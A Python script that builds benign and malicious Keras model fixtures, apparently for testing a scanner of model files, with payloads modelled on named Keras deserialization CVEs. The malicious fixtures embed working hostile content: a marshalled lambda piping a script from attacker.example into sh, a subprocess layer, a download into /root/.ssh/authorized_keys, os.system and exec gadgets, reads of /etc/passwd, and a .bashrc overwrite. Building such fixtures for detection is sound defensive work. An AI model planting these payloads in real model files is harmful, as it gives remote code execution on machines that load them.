#!/usr/bin/python3
"""Builds the Keras fixtures of internal/scan/keras.

Run with Debian's /usr/bin/python3 (python3-h5py, python3-numpy,
python3-torch) from this folder: ./make_fixtures.py

Keras itself is not installed: the configs are written by hand in the exact
shape Keras writes them (Keras 3 serialize_keras_object with module /
class_name / config / registered_name / build_config; tf.keras 2 without
modules, TFOpLambda layers, func_dump Lambda layers; legacy HDF5 root
attributes). Lambda bytecode is real: marshal.dumps of a lambda's code,
base64-encoded as Keras's func_dump does (codecs 'base64', 76-column lines).
The malicious files carry the payload shapes of CVE-2024-3660 (Lambda
bytecode), CVE-2025-1550 (arbitrary module as a layer class),
CVE-2025-8747 (keras.utils.get_file gadget), CVE-2025-9906
(set_global_attribute / enable_unsafe_deserialization, then load_model with
safe_mode=False), CVE-2025-9905 (Lambda in a legacy .h5), CVE-2025-12058
(vocabulary read from a path or URL) and JFrog's "keras-custom" Lambda that
calls a builtin with os.system as an argument. Nothing here is ever run.
"""
import base64
import codecs
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy as np
import torch

HERE = os.path.dirname(os.path.abspath(__file__))


def func_dump(fn):
    raw = marshal.dumps(fn.__code__)
    return codecs.encode(raw, "base64").decode("ascii"), fn.__defaults__, None


def k3(module, class_name, config, registered_name=None, **extra):
    d = {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}
    d.update(extra)
    return d


def dtype_policy():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def init(name, **cfg):
    return k3("keras.initializers", name, cfg or {"seed": None})


def dense(name, units, activation="linear", shape=None):
    cfg = {"name": name, "trainable": True, "dtype": dtype_policy(), "units": units, "activation": activation,
           "use_bias": True, "kernel_initializer": init("GlorotUniform"), "bias_initializer": init("Zeros", **{}),
           "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None}
    cfg["bias_initializer"] = k3("keras.initializers", "Zeros", {})
    d = k3("keras.layers", "Dense", cfg)
    if shape:
        d["build_config"] = {"input_shape": shape}
    return d


def input_layer(name, shape, dtype="float32"):
    return k3("keras.layers", "InputLayer", {"batch_shape": shape, "dtype": dtype, "sparse": False, "ragged": False, "name": name})


def compile_config(loss="sparse_categorical_crossentropy", metrics=("accuracy",)):
    return {
        "optimizer": k3("keras.optimizers", "Adam", {
            "name": "adam", "learning_rate": 0.0010000000474974513, "weight_decay": None, "clipnorm": None,
            "global_clipnorm": None, "clipvalue": None, "use_ema": False, "ema_momentum": 0.99,
            "ema_overwrite_frequency": None, "loss_scale_factor": None, "gradient_accumulation_steps": None,
            "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
        "loss": loss, "loss_weights": None, "metrics": list(metrics), "weighted_metrics": None,
        "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False,
    }


def sequential(name, layers, shape, compile=True):
    d = k3("keras", "Sequential", {"name": name, "trainable": True, "dtype": dtype_policy(), "layers": layers},
           build_config={"input_shape": shape})
    if compile:
        d["compile_config"] = compile_config()
    return d


def node(*history):
    return {"args": [{"class_name": "__keras_tensor__", "config": {"shape": [None, 16], "dtype": "float32",
                                                                   "keras_history": list(history)}}], "kwargs": {}}


def lambda_v3(name, fn, **extra):
    code, defaults, closure = func_dump(fn)
    cfg = {"name": name, "trainable": True, "dtype": dtype_policy(),
           "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": defaults, "closure": closure}},
           "arguments": {}}
    cfg.update(extra)
    return k3("keras.layers", "Lambda", cfg, build_config={"input_shape": [None, 16]})


def lambda_named_v3(name, module, fn, arguments, inbound=None):
    d = k3("keras.layers", "Lambda", {"name": name, "trainable": True, "dtype": dtype_policy(),
                                      "function": k3(module, "function", fn, "function"),
                                      "arguments": arguments},
           build_config={"input_shape": [None, 10]})
    d["name"] = name
    d["inbound_nodes"] = inbound or [{"args": [], "kwargs": {"inputs": "x"}}]
    return d


def write_json(path, obj, encoding=None):
    text = json.dumps(obj)
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(text.encode(encoding or "utf-8"))


# ---- Keras 3 benign --------------------------------------------------------

seq = sequential("sequential", [
    input_layer("input_layer", [None, 28, 28, 1]),
    k3("keras.layers", "Conv2D", {"name": "conv2d", "trainable": True, "dtype": dtype_policy(), "filters": 8,
                                  "kernel_size": [3, 3], "strides": [1, 1], "padding": "valid",
                                  "data_format": "channels_last", "dilation_rate": [1, 1], "groups": 1,
                                  "activation": "relu", "use_bias": True, "kernel_initializer": init("GlorotUniform"),
                                  "bias_initializer": k3("keras.initializers", "Zeros", {}),
                                  "kernel_regularizer": k3("keras.regularizers", "L2", {"l2": 9.999999747378752e-05}),
                                  "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
                                  "bias_constraint": None}, build_config={"input_shape": [None, 28, 28, 1]}),
    k3("keras.layers", "MaxPooling2D", {"name": "max_pooling2d", "trainable": True, "dtype": dtype_policy(),
                                        "pool_size": [2, 2], "padding": "valid", "strides": [2, 2],
                                        "data_format": "channels_last"}),
    k3("keras.layers", "BatchNormalization", {"name": "batch_normalization", "trainable": True, "dtype": dtype_policy(),
                                              "axis": -1, "momentum": 0.99, "epsilon": 0.001, "center": True,
                                              "scale": True, "beta_initializer": k3("keras.initializers", "Zeros", {}),
                                              "gamma_initializer": k3("keras.initializers", "Ones", {}),
                                              "moving_mean_initializer": k3("keras.initializers", "Zeros", {}),
                                              "moving_variance_initializer": k3("keras.initializers", "Ones", {}),
                                              "beta_regularizer": None, "gamma_regularizer": None,
                                              "beta_constraint": None, "gamma_constraint": None, "synchronized": False},
       build_config={"input_shape": [None, 13, 13, 8]}),
    k3("keras.layers", "Flatten", {"name": "flatten", "trainable": True, "dtype": dtype_policy(), "data_format": "channels_last"}),
    k3("keras.layers", "Dropout", {"name": "dropout", "trainable": True, "dtype": dtype_policy(), "rate": 0.5,
                                   "seed": None, "noise_shape": None}),
    dense("dense", 10, "softmax", [None, 1352]),
], [None, 28, 28, 1])
write_json("benign/v3_sequential.json", seq)

lstm = k3("keras.layers", "LSTM", {
    "name": "lstm", "trainable": True, "dtype": dtype_policy(), "return_sequences": True, "return_state": False,
    "go_backwards": False, "stateful": False, "unroll": False, "zero_output_for_mask": True, "units": 32,
    "activation": "tanh", "recurrent_activation": "sigmoid", "use_bias": True,
    "kernel_initializer": init("GlorotUniform"), "recurrent_initializer": init("Orthogonal", gain=1.0, seed=None),
    "bias_initializer": k3("keras.initializers", "Zeros", {}), "unit_forget_bias": True, "kernel_regularizer": None,
    "recurrent_regularizer": None, "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
    "recurrent_constraint": None, "bias_constraint": None, "dropout": 0.0, "recurrent_dropout": 0.0, "seed": None})
shared = dense("shared_projection", 16, "gelu")
head = sequential("head", [input_layer("head_input", [None, 16]), dense("head_dense", 8, "relu"), dense("logits", 4, "softmax")],
                  [None, 16], compile=False)
functional = k3("keras", "Functional", {
    "name": "tagger", "trainable": True,
    "layers": [
        dict(input_layer("tokens", [None, 50], "int32"), name="tokens", inbound_nodes=[]),
        dict(k3("keras.layers", "Embedding", {"name": "embedding", "trainable": True, "dtype": dtype_policy(),
                                              "input_dim": 20000, "output_dim": 64,
                                              "embeddings_initializer": init("RandomUniform", minval=-0.05, maxval=0.05, seed=None),
                                              "embeddings_regularizer": None, "activity_regularizer": None,
                                              "embeddings_constraint": None, "mask_zero": True},
                build_config={"input_shape": [None, 50]}), name="embedding", inbound_nodes=[node("tokens", 0, 0)]),
        dict(k3("keras.layers", "Bidirectional", {"name": "bidirectional", "trainable": True, "dtype": dtype_policy(),
                                                  "merge_mode": "concat", "layer": lstm,
                                                  "backward_layer": dict(lstm, config=dict(lstm["config"], name="backward_lstm", go_backwards=True))}),
             name="bidirectional", inbound_nodes=[node("embedding", 0, 0)]),
        dict(k3("keras.layers", "LayerNormalization", {"name": "layer_normalization", "trainable": True,
                                                       "dtype": dtype_policy(), "axis": [-1], "epsilon": 0.001,
                                                       "center": True, "scale": True, "rms_scaling": False,
                                                       "beta_initializer": k3("keras.initializers", "Zeros", {}),
                                                       "gamma_initializer": k3("keras.initializers", "Ones", {}),
                                                       "beta_regularizer": None, "gamma_regularizer": None,
                                                       "beta_constraint": None, "gamma_constraint": None}),
             name="layer_normalization", inbound_nodes=[node("bidirectional", 0, 0)]),
        dict(k3("keras.layers", "TimeDistributed", {"name": "time_distributed", "trainable": True, "dtype": dtype_policy(),
                                                    "layer": dense("per_step", 16, "relu")}),
             name="time_distributed", inbound_nodes=[node("layer_normalization", 0, 0)]),
        dict(shared, name="shared_projection", inbound_nodes=[node("time_distributed", 0, 0), node("layer_normalization", 0, 0)]),
        dict(k3("keras.layers", "Add", {"name": "add", "trainable": True, "dtype": dtype_policy()}),
             name="add", inbound_nodes=[{"args": [[node("shared_projection", 0, 0)["args"][0], node("shared_projection", 1, 0)["args"][0]]], "kwargs": {}}]),
        dict(head, name="head", inbound_nodes=[node("add", 0, 0)]),
    ],
    "input_layers": [["tokens", 0, 0]], "output_layers": [["head", 0, 0]]},
    build_config={"input_shape": [None, 50]},
    compile_config={
        "optimizer": k3("keras.optimizers", "AdamW", {
            "name": "adamw", "learning_rate": k3("keras.optimizers.schedules", "CosineDecay", {
                "initial_learning_rate": 0.001, "decay_steps": 10000, "alpha": 0.0, "name": "CosineDecay",
                "warmup_target": None, "warmup_steps": 0}),
            "weight_decay": 0.004, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
        "loss": k3("keras.losses", "SparseCategoricalCrossentropy", {"name": "sparse_categorical_crossentropy",
                                                                     "reduction": "sum_over_batch_size",
                                                                     "from_logits": False, "ignore_class": None}),
        "loss_weights": None,
        "metrics": [k3("keras.metrics", "SparseCategoricalAccuracy", {"name": "sparse_categorical_accuracy", "dtype": "float32"})],
        "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False})
write_json("benign/v3_functional.json", functional)

bert = k3("keras_hub.src.models.bert.bert_text_classifier", "BertTextClassifier", {
    "backbone": k3("keras_hub.src.models.bert.bert_backbone", "BertBackbone", {
        "name": "bert_backbone", "trainable": True, "vocabulary_size": 30522, "num_layers": 2, "num_heads": 2,
        "hidden_dim": 128, "intermediate_dim": 512, "dropout": 0.1, "max_sequence_length": 512, "num_segments": 2,
        "dtype": dtype_policy()}, "keras_hub>BertBackbone"),
    "preprocessor": k3("keras_hub.src.models.bert.bert_text_classifier_preprocessor", "BertTextClassifierPreprocessor", {
        "name": "bert_text_classifier_preprocessor", "trainable": True, "dtype": dtype_policy(),
        "tokenizer": k3("keras_hub.src.models.bert.bert_tokenizer", "BertTokenizer", {
            "name": "bert_tokenizer", "trainable": True, "dtype": "int32", "config_file": "tokenizer.json",
            "vocabulary": None, "sequence_length": None, "lowercase": True, "strip_accents": False,
            "split": True, "suffix_indicator": "##", "oov_token": "[UNK]", "special_tokens": None,
            "special_tokens_in_strings": False}, "keras_hub>BertTokenizer"),
        "config_file": "preprocessor.json", "sequence_length": 512, "truncate": "round_robin"},
        "keras_hub>BertTextClassifierPreprocessor"),
    "name": "bert_text_classifier", "num_classes": 2, "activation": "linear", "dropout": 0.1},
    "keras_hub>BertTextClassifier")
write_json("benign/v3_keras_hub_bert.json", bert)

# ---- Keras 2 benign (tf.keras 2.x: no module keys) ------------------------

def k2(class_name, config, name=None, inbound=None):
    d = {"class_name": class_name, "config": config}
    if name is not None:
        d["name"] = name
        d["inbound_nodes"] = inbound or []
    return d


def k2dense(name, units, activation, inbound):
    return k2("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
                        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
                        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
                        "bias_constraint": None}, name, inbound)


k2_functional = {"class_name": "Functional", "config": {"name": "model", "trainable": True, "layers": [
    k2("InputLayer", {"batch_input_shape": [None, 32], "dtype": "float32", "sparse": False, "ragged": False,
                      "name": "input_1"}, "input_1"),
    k2dense("dense", 32, "linear", [[["input_1", 0, 0, {}]]]),
    k2("TFOpLambda", {"name": "tf.math.add", "trainable": True, "dtype": "float32", "function": "math.add"},
       "tf.math.add", [["dense", 0, 0, {"y": ["input_1", 0, 0], "name": None}]]),
    k2("TFOpLambda", {"name": "tf.nn.relu", "trainable": True, "dtype": "float32", "function": "nn.relu"},
       "tf.nn.relu", [["tf.math.add", 0, 0, {"name": None}]]),
    k2("TFOpLambda", {"name": "tf.__operators__.add", "trainable": True, "dtype": "float32",
                      "function": "__operators__.add"}, "tf.__operators__.add",
       [["tf.nn.relu", 0, 0, {"y": 1.0, "name": None}]]),
    k2("SlicingOpLambda", {"name": "tf.__operators__.getitem", "trainable": True, "dtype": "float32",
                           "function": "__operators__.getitem"}, "tf.__operators__.getitem",
       [["tf.__operators__.add", 0, 0, {"slice_spec": {"class_name": "__tuple__", "items": [
           {"start": None, "stop": None, "step": None}, {"start": 0, "stop": 16, "step": None}]}}]]),
    k2("TFOpLambda", {"name": "tf.compat.v1.squeeze", "trainable": True, "dtype": "float32",
                      "function": "compat.v1.squeeze"}, "tf.compat.v1.squeeze",
       [["tf.__operators__.getitem", 0, 0, {"axis": None, "name": None}]]),
    k2("BatchNormalization", {"name": "batch_normalization", "trainable": True, "dtype": "float32", "axis": [1],
                              "momentum": 0.99, "epsilon": 0.001, "center": True, "scale": True,
                              "beta_initializer": {"class_name": "Zeros", "config": {}},
                              "gamma_initializer": {"class_name": "Ones", "config": {}},
                              "moving_mean_initializer": {"class_name": "Zeros", "config": {}},
                              "moving_variance_initializer": {"class_name": "Ones", "config": {}},
                              "beta_regularizer": None, "gamma_regularizer": None, "beta_constraint": None,
                              "gamma_constraint": None}, "batch_normalization",
       [[["tf.compat.v1.squeeze", 0, 0, {}]]]),
    k2dense("dense_1", 3, "softmax", [[["batch_normalization", 0, 0, {}]]]),
], "input_layers": [["input_1", 0, 0]], "output_layers": [["dense_1", 0, 0]]}}
k2_training = {"loss": "categorical_crossentropy", "metrics": [[{"class_name": "MeanMetricWrapper", "config": {
    "name": "accuracy", "dtype": "float32", "fn": "categorical_accuracy"}}]], "weighted_metrics": None,
    "loss_weights": None, "optimizer_config": {"class_name": "Custom>Adam", "config": {
        "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
        "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None, "jit_compile": True,
        "is_legacy_optimizer": False, "learning_rate": 0.0010000000474974513, "beta_1": 0.9, "beta_2": 0.999,
        "epsilon": 1e-07, "amsgrad": False}}}
write_json("benign/keras2_functional.json", k2_functional)
write_json("benign/keras2_training_config.json", k2_training)


def keras2_h5(path, model_config, training_config, keras_version="2.15.0"):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with h5py.File(full, "w") as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = keras_version
        f.attrs["model_config"] = json.dumps(model_config).encode("utf8")
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode("utf8")
        mw = f.create_group("model_weights")
        mw.attrs["backend"] = "tensorflow"
        mw.attrs["keras_version"] = keras_version
        mw.attrs["layer_names"] = np.array([b"dense"])
        g = mw.create_group("dense").create_group("dense")
        mw["dense"].attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        g.create_dataset("kernel:0", data=np.zeros((4, 2), dtype="float32"))
        g.create_dataset("bias:0", data=np.zeros((2,), dtype="float32"))


keras2_h5("benign/keras2_functional.h5", k2_functional, k2_training)

# ---- .keras archives -------------------------------------------------------

def weights_v3():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        v = f.create_group("layers").create_group("dense").create_group("vars")
        v.create_dataset("0", data=np.zeros((4, 2), dtype="float32"))
        v.create_dataset("1", data=np.zeros((2,), dtype="float32"))
        f.create_group("optimizer").create_group("vars")
        f.create_group("vars")
    return buf.getvalue()


def keras_zip(path, config):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with zipfile.ZipFile(full, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.10.0", "date_saved": "2025-06-01@12:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights_v3(), compress_type=zipfile.ZIP_STORED)


keras_zip("benign/sequential.keras", seq)

# ---- Keras 3 malicious -----------------------------------------------------

def compiled(src):
    """A lambda compiled as if from the author's train.py, so the fixture does not name this machine."""
    return eval(compile(src, "train.py", "eval"))


evil = compiled('lambda x: __import__("os").system("curl -s https://attacker.example/x.sh | sh") or x')
harmless = compiled("lambda x: x * 2.0")

write_json("malicious/v3_lambda_os_system.json", sequential("sequential", [
    input_layer("input_layer", [None, 16]), lambda_v3("lambda", evil), dense("dense", 4, "softmax")], [None, 16]))
write_json("malicious/v3_lambda_plain.json", sequential("sequential", [
    input_layer("input_layer", [None, 16]), lambda_v3("double", harmless), dense("dense", 4, "softmax")], [None, 16]))
write_json("malicious/v3_lambda_os_system_utf16.json", sequential("sequential", [
    input_layer("input_layer", [None, 16]), lambda_v3("lambda", evil)], [None, 16]), encoding="utf-16")
keras_zip("malicious/lambda_os_system.keras", sequential("sequential", [
    input_layer("input_layer", [None, 16]), lambda_v3("lambda", evil), dense("dense", 4, "softmax")], [None, 16]))

# CVE-2025-1550: a "layer" whose class is subprocess.run, called with arguments from inbound_nodes.
write_json("malicious/v3_cve_2025_1550_subprocess.json", k3("keras", "Functional", {
    "name": "functional", "trainable": True,
    "layers": [dict(input_layer("input_layer", [None, 1]), name="input_layer", inbound_nodes=[]),
               dict(k3("subprocess", "run", {"name": "run"}), name="run",
                    inbound_nodes=[{"args": [], "kwargs": {"args": ["bash", "-c", "id > /tmp/pwned"], "shell": False}}])],
    "input_layers": [["input_layer", 0, 0]], "output_layers": [["run", 0, 0]]}))

# CVE-2025-9906: switch safe_mode off with set_global_attribute, then load a second model unsafely.
write_json("malicious/v3_cve_2025_9906.json", sequential("sequential", [
    input_layer("input_layer", [None, 10]),
    lambda_named_v3("disable_safe_mode", "keras.src.backend.common.global_state", "set_global_attribute",
                    {"value": False}, [{"args": [], "kwargs": {"inputs": "safe_mode_saving"}}]),
    lambda_named_v3("unsafe_deserialization", "keras.models", "load_model", {"safe_mode": False},
                    [{"args": [], "kwargs": {"inputs": "/tmp/provola/model.keras"}}]),
], [None, 10]))

# The simplest form: a layer that is keras.config.enable_unsafe_deserialization, then a bytecode Lambda.
write_json("malicious/v3_enable_unsafe_deserialization.json", sequential("sequential", [
    k3("keras.config", "function", "enable_unsafe_deserialization", "function"),
    input_layer("input_layer", [None, 16]), lambda_v3("lambda", evil)], [None, 16]))

# CVE-2025-8747: keras.utils.get_file as a Lambda function, downloading over the user's files.
write_json("malicious/v3_cve_2025_8747_get_file.json", sequential("sequential", [
    input_layer("input_layer", [None, 10]),
    lambda_named_v3("fetch", "keras.utils", "get_file",
                    {"origin": "https://attacker.example/payload.tar.gz", "extract": True,
                     "cache_dir": "/root", "cache_subdir": ".ssh"},
                    [{"args": [], "kwargs": {"fname": "authorized_keys"}}])], [None, 10]))

# JFrog "keras-custom": a builtin called with os.system as an argument.
write_json("malicious/v3_builtin_with_os_system.json", sequential("sequential", [
    input_layer("input_layer", [None, 10]),
    lambda_named_v3("lambda", "builtins", "map",
                    {"func": k3("os", "function", "system", "function"), "iterable": ["id"]})], [None, 10]))

# Dangerous functions as an activation and an initializer.
act = dense("dense", 4, k3("os", "function", "system", "function"), [None, 16])
act["config"]["kernel_initializer"] = k3("builtins", "function", "exec", "function")
write_json("malicious/v3_activation_os_system.json", sequential("sequential", [input_layer("input_layer", [None, 16]), act], [None, 16]))

# Custom objects: a registered custom layer and a __main__ function.
custom = k3("my_project.layers", "AttentionPooling", {"name": "attention_pooling", "trainable": True,
                                                      "dtype": dtype_policy(), "units": 16}, "my_project>AttentionPooling",
            build_config={"input_shape": [None, 50, 64]})
main_fn = dense("dense", 4, k3("__main__", "function", "preprocess", "preprocess"), [None, 16])
write_json("malicious/v3_custom_object.json", sequential("sequential", [input_layer("input_layer", [None, 50, 64]), custom, main_fn], [None, 50, 64]))

# CVE-2025-12058 and friends: files read from outside the archive.
write_json("malicious/v3_external_files.json", sequential("sequential", [
    input_layer("input_layer", [None], "string"),
    k3("keras.layers", "StringLookup", {"name": "string_lookup", "trainable": True, "dtype": "int64",
                                        "invert": False, "max_tokens": None, "num_oov_indices": 1,
                                        "oov_token": "[UNK]", "mask_token": None, "output_mode": "int",
                                        "sparse": False, "pad_to_max_tokens": False, "vocabulary": "/etc/passwd",
                                        "idf_weights": None, "encoding": "utf-8", "vocabulary_dtype": "string"}),
    k3("keras.layers", "TextVectorization", {"name": "text_vectorization", "trainable": True, "dtype": "string",
                                             "max_tokens": None, "standardize": "lower_and_strip_punctuation",
                                             "split": "whitespace", "ngrams": None, "output_mode": "int",
                                             "output_sequence_length": None, "pad_to_max_tokens": False,
                                             "sparse": False, "ragged": False,
                                             "vocabulary": "https://attacker.example/vocab.txt", "idf_weights": None,
                                             "encoding": "utf-8", "vocabulary_size": 2}),
    k3("keras.layers", "TFSMLayer", {"name": "tfsm_layer", "trainable": False, "dtype": dtype_policy(),
                                     "filepath": "gs://attacker-bucket/saved_model", "call_endpoint": "serve",
                                     "call_training_endpoint": None}),
], [None]))

# TorchModuleWrapper: a torch.save'd module, base64 in the config.
buf = io.BytesIO()
torch.manual_seed(0)
torch.save(torch.nn.Linear(2, 2), buf)
write_json("malicious/v3_torch_module_wrapper.json", sequential("sequential", [
    input_layer("input_layer", [None, 2]),
    k3("keras.layers", "TorchModuleWrapper", {"name": "torch_module_wrapper", "trainable": True, "dtype": dtype_policy(),
                                              "module": base64.b64encode(buf.getvalue()).decode("ascii"),
                                              "output_shape": None}),
], [None, 2]))

# ---- Keras 2 malicious -----------------------------------------------------

k2_lambda = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    k2("InputLayer", {"batch_input_shape": [None, 1], "dtype": "float32", "sparse": False, "ragged": False,
                      "name": "input_1"}),
    k2("Lambda", {"name": "lambda", "trainable": True, "dtype": "float32",
                  "function": list(func_dump(compiled("lambda x: (exec(\"import os; os.system('id')\"), x)[1]"))),
                  "function_type": "lambda", "module": "__main__", "output_shape": None,
                  "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}),
]}}
k2_loss = {"loss": {"class_name": "FocalLoss", "config": {"gamma": 2.0, "name": "focal_loss"}},
           "metrics": ["accuracy"], "weighted_metrics": None, "loss_weights": None,
           "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}}}
keras2_h5("malicious/keras2_lambda.h5", k2_lambda, k2_loss, "2.12.0")

write_json("malicious/keras2_lambda_named.json", {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    k2("Lambda", {"name": "preprocess", "trainable": True, "dtype": "float32", "function": "normalize_audio",
                  "function_type": "function", "module": "audio_utils", "output_shape": [16],
                  "output_shape_type": "raw", "output_shape_module": None, "arguments": {"sample_rate": 16000}}),
]}})

write_json("malicious/keras2_tf_ops.json", {"class_name": "Functional", "config": {"name": "model", "layers": [
    k2("InputLayer", {"batch_input_shape": [None], "dtype": "string", "name": "input_1"}, "input_1"),
    k2("TFOpLambda", {"name": "tf.io.write_file", "trainable": True, "dtype": "float32", "function": "io.write_file"},
       "tf.io.write_file", [["input_1", 0, 0, {"filename": "/home/user/.bashrc", "contents": "curl x | sh"}]]),
    k2("TFOpLambda", {"name": "tf.load_op_library", "trainable": True, "dtype": "float32", "function": "load_op_library"},
       "tf.load_op_library", [["input_1", 0, 0, {"library_filename": "/tmp/evil.so"}]]),
    k2("TensorFlowOpLayer", {"name": "ReadFile", "trainable": True, "dtype": "float32",
                             "node_def": {"name": "ReadFile", "op": "ReadFile", "input": ["input_1"], "attr": {}},
                             "constants": {}}, "tf_op_layer_ReadFile", [[["input_1", 0, 0, {}]]]),
], "input_layers": [["input_1", 0, 0]], "output_layers": [["tf.io.write_file", 0, 0]]}})

with open(os.path.join(HERE, "malicious/truncated.json"), "w") as f:
    f.write(json.dumps(seq)[:400])
